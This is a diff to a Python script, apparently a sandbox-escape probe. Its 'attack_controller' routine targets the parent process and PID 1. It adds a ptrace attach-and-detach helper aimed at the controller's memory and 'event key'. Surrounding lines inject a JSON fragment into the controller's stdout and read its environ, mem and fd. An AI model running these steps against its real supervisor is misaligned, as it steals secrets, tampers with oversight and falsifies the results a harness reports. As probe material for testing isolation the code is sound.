@@ -30,6 +30,20 @@ def write(path, data):
         return e.strerror or str(e)
 
 
+def ptrace(pid):
+    """PTRACE_ATTACH, which would give the controller's memory and registers (the event key)."""
+    try:
+        import ctypes
+
+        libc = ctypes.CDLL(None, use_errno=True)
+        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
+            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH: it got in; say so, let go
+            return None
+        return os.strerror(ctypes.get_errno())
+    except (ImportError, OSError, AttributeError) as e:
+        return "no ptrace call here: %s" % e
+
+
 def attack_controller():
     controller = os.getppid()
     for pid in sorted({controller, 1}):
@@ -39,6 +53,7 @@ def attack_controller():
                 note("write %s" % path, write(path, ("\n%s\n%s\n" % (OLD, NEW)).encode()))
         # A fragment with no newline: it would swallow the controller's next line.
         note("glue /proc/%d/fd/1" % pid, write("/proc/%d/fd/1" % pid, b'{"imagegate": 1, "x": "'))
+        note("ptrace %d" % pid, ptrace(pid))
         for what in ("environ", "mem", "fd"):
             path = "/proc/%d/%s" % (pid, what)
             try:
